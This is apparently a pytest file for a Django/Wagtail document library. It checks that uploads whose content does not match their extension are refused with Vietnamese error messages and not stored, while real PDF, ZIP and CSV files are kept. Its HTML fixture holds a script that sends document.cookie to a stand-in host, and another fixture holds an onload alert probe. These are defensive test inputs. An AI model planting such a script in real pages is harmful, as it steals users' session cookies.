"""A document is what its name says, by its content: a web page, a program or
an archive named like a PDF or a spreadsheet is refused with a Vietnamese
message in the form (never a 500) and nothing is stored, whichever way it is
uploaded; real files of the same names are stored as they came."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas
from wagtail.documents.models import Document
from wagtail.models import Collection

pytestmark = pytest.mark.django_db

PAGE = (b"<!DOCTYPE html>\n<html><head><title>Thong bao</title></head><body>"
        b"<script>document.location='https://example.invalid/?c='+document.cookie</script>"
        b"</body></html>")
REFUSED = "không phải là tệp PDF thật: nội dung là trang web (HTML), không đúng với phần mở rộng .pdf"


def real_pdf():
    buffer = io.BytesIO()
    page = canvas.Canvas(buffer, pagesize=A4)
    page.drawString(72, 760, "Thong bao lich tiep cong dan thang 12")
    page.showPage()
    page.save()
    return buffer.getvalue()


def zip_of(name, data):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


@pytest.fixture
def admin(login):
    return login("admin")


def root_collection():
    return Collection.get_first_root_node().id


def add_form(client, name, data):
    return client.post("/admin/documents/add/", {
        "title": "Thông báo tiếp công dân", "collection": root_collection(),
        "file": SimpleUploadedFile(name, data)})


def test_web_page_named_pdf_is_refused_in_the_document_form_and_nothing_is_stored(admin):
    count = Document.objects.count()
    response = add_form(admin, "thong-bao.pdf", PAGE)
    assert response.status_code == 200
    html = response.content.decode()
    assert f"Tệp “thong-bao.pdf” {REFUSED}" in html
    assert "is not allowed" not in html
    assert Document.objects.count() == count


def test_web_page_named_pdf_is_refused_by_the_multiple_uploader(admin):
    count = Document.objects.count()
    response = admin.post("/admin/documents/multiple/add/", {
        "collection": root_collection(), "files[]": SimpleUploadedFile("thong-bao.pdf", PAGE)})
    assert response.status_code == 200
    answer = response.json()
    assert not answer["success"] and REFUSED in answer["error_message"]
    assert Document.objects.count() == count


def test_web_page_named_pdf_is_refused_by_the_chooser_upload(admin):
    count = Document.objects.count()
    response = admin.post(reverse("wagtaildocs_chooser:create"), {
        "document-chooser-upload-title": "Thông báo", "document-chooser-upload-collection":
        root_collection(), "document-chooser-upload-file": SimpleUploadedFile("tb.pdf", PAGE)})
    assert response.status_code == 200
    assert REFUSED in response.json()["htmlFragment"]
    assert Document.objects.count() == count


@pytest.mark.parametrize("name, data, message", [
    ("bang-gia.xlsx", real_pdf(), "không phải là tệp Excel (.xlsx) thật: nội dung là tệp PDF,"),
    ("cong-van.doc", zip_of("a.txt", b"x"), "không phải là tệp Word (.doc) thật: nội dung là "
                                            "tệp nén ZIP"),
    ("ho-so.zip", b"MZ\x90\x00\x03" + b"\x00" * 60, "nội dung là chương trình Windows (.exe),"),
    ("so-lieu.csv", b"  <html><body onload=alert(1)>", "không phải văn bản (CSV): nội dung là "
                                                         "trang web (HTML)"),
    ("ban-ve.txt", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">',
     "nội dung là ảnh SVG"),
    ("trinh-chieu.pptx", b"just some words, not a presentation",
     "không phải là tệp PowerPoint (.pptx) thật: nội dung không đúng với phần mở rộng .pptx"),
], ids=["pdf-as-xlsx", "zip-as-doc", "exe-as-zip", "html-as-csv", "svg-as-txt", "text-as-pptx"])
def test_content_that_is_not_its_extension_is_refused_and_nothing_is_stored(
        admin, name, data, message):
    count = Document.objects.count()
    response = add_form(admin, name, data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Document.objects.count() == count


@pytest.mark.parametrize("name, data", [
    ("thong-bao.pdf", real_pdf()),
    ("ho-so.zip", zip_of("don.txt", "Đơn đề nghị".encode())),
    ("so-lieu.csv", "Đơn vị;Số hồ sơ\nVăn phòng;12\n".encode()),
], ids=["pdf", "zip", "csv"])
def test_real_files_are_still_stored_as_they_came(admin, name, data):
    response = add_form(admin, name, data)
    assert response.status_code == 302
    document = Document.objects.filter(title="Thông báo tiếp công dân").latest("id")
    with document.file.open("rb") as handle:
        assert handle.read() == data
